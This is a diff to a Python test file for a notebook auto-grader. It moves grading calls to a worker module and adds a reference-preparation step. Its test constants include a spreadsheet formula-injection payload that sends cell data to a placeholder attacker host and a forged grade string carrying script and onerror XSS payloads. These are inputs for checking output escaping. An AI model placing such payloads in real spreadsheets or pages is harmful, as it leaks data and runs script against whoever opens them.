@@ -17,9 +17,10 @@ import hostile_worksheet as H
 import nbformat
 import pytest
 
-from coursegrad.grading import batch, lifetime, report
+from coursegrad.grading import batch, lifetime, report, worker
 from coursegrad.grading.escape import csv_cell, file_name, md_block, md_inline
 from coursegrad.grading.grade import grade_notebook
+from coursegrad.grading.reference import prepare
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 FORGERY = "``````\n# Full marks: 3 / 3\n<script>alert(1)</script>\n<img src=x onerror=alert(2)>"
@@ -147,7 +148,7 @@ def test_links_and_special_files_are_refused(graded):
         assert results[student].status == "invalid" and results[student].total == 0
         assert results[student].notes[0].startswith("refused:"), results[student].notes
     # control: followed, the link is the instructor's source, which scores full marks
-    assert grade_notebook(graded["src"], graded["src"], "source", timeout=10).total == 3.0
+    assert grade_notebook(prepare(graded["src"], timeout=10), graded["src"], "source", timeout=10).total == 3.0
 
 
 def test_old_nbformat_is_upgraded_and_graded(graded):
@@ -171,8 +172,8 @@ def test_a_rerun_resumes_from_the_stored_results(graded, monkeypatch):
     nb = H.correct()
     nbformat.write(nb, str(graded["subs"] / "Bob_Smith" / H.NAME))  # changed since it was graded
     calls = []
-    real = batch._grade_one
-    monkeypatch.setattr(batch, "_grade_one", lambda *a: calls.append(a[1]) or real(*a))
+    real = worker.grade_one
+    monkeypatch.setattr(worker, "grade_one", lambda *a: calls.append(a[1]) or real(*a))
     again = batch.grade_folder(graded["src"], graded["subs"], jobs=1, progress=False, timeout=10, results_dir=out / "results")
     assert sorted(calls) == ["Bob_Smith", "bob_smith"]
     by_name = {r.student: r for r in again}
